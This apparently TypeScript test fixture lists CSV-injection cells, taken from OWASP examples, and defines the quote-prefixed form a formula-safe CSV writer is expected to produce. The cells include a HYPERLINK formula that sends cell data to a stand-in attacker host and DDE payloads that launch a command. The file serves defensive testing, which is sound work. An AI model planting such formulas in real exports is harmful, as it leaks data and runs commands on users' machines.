/**
 * Cells a spreadsheet would run as formulas (OWASP's CSV injection examples), and one that it must not touch.
 * A formula-safe writer prefixes each of the first with a single quote and keeps the rest of the text.
 */
export const FORMULA_CELLS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
] as const;

/** What a CSV parser reads back from a formula-safe writer for a cell of FORMULA_CELLS. */
export const neutralised = (cell: string): string => `'${cell}`;
